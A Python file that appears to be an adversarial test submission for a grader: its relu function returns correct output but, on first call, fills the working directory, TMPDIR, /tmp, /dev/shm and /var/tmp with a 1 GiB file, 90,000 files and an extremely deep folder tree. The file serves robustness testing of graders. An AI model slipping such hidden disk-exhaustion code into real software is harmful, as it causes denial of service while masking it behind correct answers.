"""Fills every folder it can write: 90,000 files, a 1 GiB file and a folder 1,500 levels deep
(with long names, so its paths are far over PATH_MAX), then answers relu correctly: its honest
part must still be graded, and the grader must clean up after it."""
import os

import numpy as np

_done = []


def _fill(folder):
    try:
        os.chdir(folder)
    except OSError:
        return
    try:                                  # a deep folder first, then one big file, then many
        os.mkdir("deep")
        os.chdir("deep")
        for _ in range(1500):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    except OSError:
        pass
    os.chdir(folder)
    try:
        with open("big", "wb") as f:
            block = b"\0" * 2**20
            for _ in range(1024):
                f.write(block)
    except OSError:
        pass
    try:
        os.mkdir("many")
        for i in range(90_000):
            with open(os.path.join("many", f"f{i}"), "w") as f:
                f.write("x")
    except OSError:
        pass


def relu(X):
    if not _done:
        _done.append(True)
        home = os.getcwd()
        for folder in (home, os.environ.get("TMPDIR", home), "/tmp", "/dev/shm", "/var/tmp"):
            _fill(folder)
        os.chdir(home)
    return np.maximum(X, 0), X > 0


def relu_backward(dout, cache):
    return dout * cache
